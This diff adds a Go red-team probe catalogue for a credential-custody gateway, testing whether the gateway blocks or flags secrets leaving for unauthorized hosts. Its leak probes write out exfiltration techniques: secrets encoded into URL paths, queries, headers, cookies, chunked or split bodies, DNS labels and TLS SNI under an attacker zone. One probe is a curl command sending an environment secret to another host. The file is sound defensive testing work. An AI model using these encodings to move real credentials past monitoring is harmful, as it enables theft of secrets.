@@ -1,0 +1,217 @@
+package redteam
+
+import (
+	"bytes"
+	"fmt"
+	"slices"
+	"strings"
+
+	"github.com/custody-project/custody/audit"
+	"github.com/custody-project/custody/redteam/world"
+)
+
+// secrets are the probes of credentials, each in a step of its own, as the first value that turns up
+// where it should not takes all of a step's away.
+func (c *catalogue) secrets() {
+	c.secretControls()
+	c.leaks()
+	c.steering()
+	c.secondAuth()
+	c.placeholders()
+	c.afterlife()
+	c.reflections()
+	c.copies()
+	c.redaction()
+}
+
+// secretive adds a probe of the scene. Whatever its secrets are, none may be seen but where it may be.
+func (c *catalogue) secretive(p Probe) {
+	p.scene = withSecrets
+	if p.outer == nil {
+		p.outer = spilled
+	}
+	c.add(p)
+}
+
+// spilled says where outside a value was seen that the probe is about, or what the script put into its
+// place, if that server is not one that may be told it.
+func spilled(t *trial, p Probe, said report) string {
+	for _, s := range p.about {
+		if where := t.seenOutside(s, func(text string) string { return shown([]byte(text), t.values[s.name]) }); where != "" {
+			return "the secret " + s.name + " was seen " + where
+		}
+		for _, f := range said.Filled {
+			if where := t.seenOutside(s, func(text string) string { return hit(strings.Contains(text, string(f)), "as it was sent") }); where != "" {
+				return "what stands for the secret " + s.name + " was seen " + where
+			}
+		}
+	}
+	return ""
+}
+
+func hit(yes bool, how string) string {
+	if yes {
+		return how
+	}
+	return ""
+}
+
+// seenOutside looks through all that the world has heard, but at the secret's homes.
+func (t *trial) seenOutside(s secret, find func(text string) string) string {
+	for _, r := range t.world.Requests() {
+		text := fmt.Sprint(r.SNI, "\n", r.Host, "\n", r.URI, "\n", r.Header, "\n", r.Body)
+		if how := find(text); how != "" && !slices.Contains(s.homes, r.SNI) {
+			return fmt.Sprintf("at %s, %s: %s %s", r.SNI, r.Dst, r.Method, how)
+		}
+	}
+	for _, talk := range t.world.Talks() {
+		if how := find(talk.SNI + "\n" + string(talk.Said)); how != "" && !slices.Contains(s.homes, talk.SNI) {
+			return fmt.Sprintf("at %s, %s: %s", talk.SNI, talk.Dst, how)
+		}
+	}
+	for _, q := range t.world.Queries() {
+		if how := find(q.Name); how != "" {
+			return "in a question: " + q.Name
+		}
+	}
+	for _, at := range t.world.Seen() {
+		if how := find(at.Text); how != "" {
+			return at.String()
+		}
+	}
+	return ""
+}
+
+// arrives finds fault unless a server got the value in its header.
+func arrives(s secret) outer {
+	return func(t *trial, p Probe, said report) string {
+		for _, r := range t.world.Requests() {
+			if strings.Contains(r.URI, p.token) && slices.Contains(s.homes, r.SNI) && slices.Equal(r.Header[world.KeyHeader], []string{t.values[s.name]}) {
+				return spilled(t, p, report{})
+			}
+		}
+		return fmt.Sprintf("the credential did not arrive: %s %s %.80q", said.Stage, said.Error, said.Answer)
+	}
+}
+
+// secretControls are what must work of secrets, and what shows that the probes beside them could have.
+func (c *catalogue) secretControls() {
+	add := func(id, title string, t *task, proof evidence, o outer, binds ...secret) {
+		c.secretive(Probe{ID: "control/" + id, Title: title, Bypass: Positive, Control: true, step: "works", task: t, allowed: reaches, proof: proof, outer: o, binds: binds})
+	}
+	used := func(b *about, r *audit.Record) bool {
+		return allowedFlow(b, r) && r.HTTP != nil && r.HTTP.Credential == b.binds[0].name
+	}
+	add("credential", "the gateway puts a credential in the place of its placeholder",
+		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
+	add("credential-added", "the gateway adds a credential to a request without one",
+		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
+	add("reflected", "without the mask a credential does come back in an answer",
+		tlsTo(world.Fronted, "GET /v1/reflect?"+c.token()+" HTTP/1.1\r\nHost: "+world.Fronted+"\r\nConnection: close\r\n\r\n"), used,
+		func(t *trial, _ Probe, said report) string {
+			if !bytes.Contains(said.Answer, []byte(t.values[shownKey.name])) {
+				return "the answer does not have it: " + said.Stage + " " + said.Error
+			}
+			return ""
+		}, shownKey)
+	s := c.env()
+	add("in-scope", "a value that goes where its hosts let it arrives",
+		tlsTo(world.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+world.API+"\r\nX-Data: {{"+strings.ToUpper(s.name)+"|base64}}\r\nConnection: close\r\n\r\n"), allowedFlow,
+		func(t *trial, p Probe, said report) string {
+			for _, r := range t.world.Requests() {
+				if strings.Contains(r.URI, p.token) && shown([]byte(fmt.Sprint(r.Header)), t.values[p.binds[0].name]) != "" {
+					return ""
+				}
+			}
+			return "it did not arrive: " + said.Stage + " " + said.Error
+		}, s, apiKey)
+}
+
+// tlsTo is a task that says something within TLS.
+func tlsTo(name, text string) *task {
+	return &task{Do: "talk", Name: name, Port: 443, TLS: &tlsTask{SNI: name, ALPN: []string{"http/1.1"}}, Send: once(text), Timeout: 5}
+}
+
+// leaks are the probes of a value that the step has, on its way to a host that it is not for.
+func (c *catalogue) leaks() {
+	other := "other." + world.Wild
+	for _, l := range []struct{ id, title, text string }{
+		{"url", "in a path, with percent escapes", "GET /x/{{V|url}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"url-all", "in a path, every byte escaped", "GET /x/{{V|urlall}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"query-base64", "in a query, in base64 behind one byte", "GET /{T}?d={{V|base64at1|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"query-base64url", "in a query, in base64url", "GET /{T}?d={{V|base64url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"header", "in a header", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|raw}}\r\n\r\n"},
+		{"header-base64", "in a header, in base64 behind two bytes", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64at2}}\r\n\r\n"},
+		{"header-twice", "in a header, in hex of base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64|hex}}\r\n\r\n"},
+		{"header-name", "in the name of a header, in hex", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX{{V|hex}}: y\r\n\r\n"},
+		{"basic", "as a password within Basic", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{V|user}}\r\n\r\n"},
+		{"cookie", "in a cookie, in JSON", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nCookie: a={{V|json}}\r\n\r\n"},
+		{"body", "in a body", "POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw}}"},
+		{"body-chunks", "in a body of chunks of 5 bytes", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
+		{"body-chunks-base64", "in a body of chunks of 3 bytes, in base64", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks64}}"},
+		{"body-utf16", "in a body, in UTF-16", "POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|utf16le|length}}\r\n\r\n{{V|utf16le}}"},
+	} {
+		s := c.env()
+		t := refusedTo(other, c.templated(l.text, other, s))
+		p := Probe{ID: "leak/" + l.id, step: "leak", Title: "a value to another host: " + l.title, Bypass: Elsewhere, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")}
+		if strings.Contains(l.id, "chunks") {
+			p.Bypass = SplitWrites
+		}
+		c.secretive(p)
+	}
+	s := c.env()
+	t := tlsTo(other, "")
+	t.Send = []piece{{Data: []byte(c.templated("POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw[:9]}}", other, s)), Wait: 300},
+		{Data: []byte(c.templated("{{V|raw[9:30]}}", other, s)), Wait: 300}, {Data: []byte(c.templated("{{V|raw[30:]}}", other, s))}}
+	c.secretive(Probe{ID: "leak/body-split", step: "leak", Title: "a value to another host: in a body that comes in three parts with pauses", Bypass: SplitWrites, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")})
+	s = c.env()
+	c.secretive(Probe{ID: "leak/h2", step: "leak", Title: "a value to another host: in a header of HTTP/2", Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
+		task: program("sh", "-c", "curl -sS --http2 -m 10 -H \"X: $"+strings.ToUpper(s.name)+"\" https://"+other+"/"+c.token())})
+	for _, l := range []struct{ id, title, text string }{
+		{"clear-url", "in a path", "GET /{T}/{{V|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"clear-header", "in a header, in base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64}}\r\n\r\n"},
+		{"clear-body", "in a body of chunks", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
+	} {
+		s := c.env()
+		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value to another host in the clear: " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
+			task: &task{Do: "talk", Name: world.Plain, Port: 80, Send: once(c.templated(l.text, world.Plain, s))}})
+	}
+	c.namedLeaks()
+}
+
+// namedLeaks are of values in names.
+func (c *catalogue) namedLeaks() {
+	for _, l := range []struct{ id, title, code, zone string }{
+		{"dns-gateway", "in the labels of a name that goes through the gateway, in base32", "labels32", world.Wild},
+		{"dns-attacker", "in the labels of the attacker's name, in hex", "labels16", world.Attacker},
+	} {
+		s := c.env()
+		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-in-dns"),
+			task: &task{Do: "talk", Name: c.templated("{{V|"+l.code+"}}.", "", s) + l.zone, Port: 443, Send: once("x")}})
+	}
+	for _, l := range []struct{ id, title, code, zone, rule string }{
+		{"sni-hex", "in the TLS name of a connection that is not opened, in hex", "labels16", world.Rebind, "secret-in-flow"},
+		{"sni-base32", "in the TLS name of a connection that is opened, in base32", "labels32", world.Wild, "secret-in-flow"},
+		{"sni-other", "in a TLS name of the attacker's, at an allowed host, in hex", "labels16", world.Attacker, "secret-in-flow"},
+	} {
+		s := c.env()
+		at := "public-" + c.token() + "." + world.Rebind
+		if l.zone == world.Wild {
+			at = "w" + c.token() + "." + world.Wild
+		}
+		t := tlsTo(at, "x")
+		t.TLS.SNI = c.templated("{{V|"+l.code+"}}.", "", s) + l.zone
+		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, allowed: asks, binds: []secret{s}, proof: flaggedAs("secret-in-flow", "secret-to-other-host"), task: t})
+	}
+}
+
+// templated fills a text, and puts the name of a secret's variable where the script puts its value.
+func (c *catalogue) templated(text, host string, s secret) string {
+	return strings.ReplaceAll(c.fill(text, host, world.Fronted), "{{V|", "{{"+strings.ToUpper(s.name)+"|")
+}
+
+func flaggedAs(rules ...string) evidence {
+	return func(b *about, r *audit.Record) bool {
+		return slices.ContainsFunc(rules, func(rule string) bool { return flagged(rule)(b, r) })
+	}
+}
